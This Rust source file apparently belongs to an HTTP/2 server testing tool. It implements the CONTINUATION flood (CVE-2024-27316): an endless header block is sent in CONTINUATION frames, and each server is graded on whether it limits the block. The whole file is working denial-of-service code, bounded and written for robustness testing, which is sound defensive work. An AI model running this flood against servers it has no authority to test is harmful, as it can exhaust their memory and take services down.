//! One header block that never ends.

use std::time::Duration;

use super::link::Link;
use crate::attack::context::Context;
use crate::attack::definition::Attack;
use crate::attack::evidence::{Evidence, Findings, Mark};
use keel_wire::http2::{CONTINUATION, END_STREAM, HEADERS, frame, literal};

/// The header block's size at which it counts as taken without a limit, in bytes.
const BLOCK: usize = 8 << 20;
/// Fields in one frame: below the 16 KiB that every peer must take.
const FIELDS: usize = 200;
/// The time of a look after each frame.
const GLANCE: Duration = Duration::from_millis(1);
/// The time limit for the end once everything was sent.
const CUT: Duration = Duration::from_secs(2);

pub(crate) const ATTACK: Attack = Attack {
    id: "h2-continuation",
    what: "sends one header block in CONTINUATION frames without end",
    source: "CVE-2024-27316 and its kin (CERT VU#421644); RFC 9113, 6.10 and 10.5.1",
    correct: "the block is limited: GOAWAY, a reset stream or 431, or a closed connection",
    memory: None,
    launch: |context| Box::pin(launch(context)),
};

async fn launch(context: &Context<'_>) -> Findings {
    let mut link = Link::open(context, &[], false).await?;
    let mut filler = Vec::new();
    for _ in 0..FIELDS {
        literal(&mut filler, b"x-a", &[b'a'; 62]);
    }
    let piece = frame(CONTINUATION, 0, 1, &filler);
    let mut going = link.write(&frame(HEADERS, END_STREAM, 1, &context.h2_get())).await;
    let mut sent = 0;
    while going && sent < BLOCK && sent < context.bounds.bytes as usize && context.turn().await {
        going = link.write(&piece).await;
        sent += filler.len();
        link.look(GLANCE).await;
        going &= !link.seen.is_over() && !is_refused(&link);
    }
    if going {
        link.look(CUT).await;
    }
    let kibibytes = sent >> 10;
    Ok(vec![if link.seen.is_over() {
        Evidence::new(Mark::Right, format!("the block is cut after {kibibytes} KiB, {}", link.seen.told()))
    } else if is_refused(&link) {
        Evidence::new(Mark::Right, format!("the stream is answered or reset after {kibibytes} KiB"))
    } else if !going {
        Evidence::new(Mark::Right, format!("nothing more is read after {kibibytes} KiB"))
    } else if sent >= BLOCK {
        Evidence::new(Mark::Wrong, format!("a header block of {kibibytes} KiB is taken without a limit"))
    } else {
        Evidence::new(Mark::Note, format!("only {kibibytes} KiB could be sent within the bounds"))
    }])
}

/// Returns true if the only stream was refused.
fn is_refused(link: &Link) -> bool {
    link.seen.frames[usize::from(HEADERS)] > 0 || link.seen.frames[usize::from(keel_wire::http2::RST_STREAM)] > 0
}
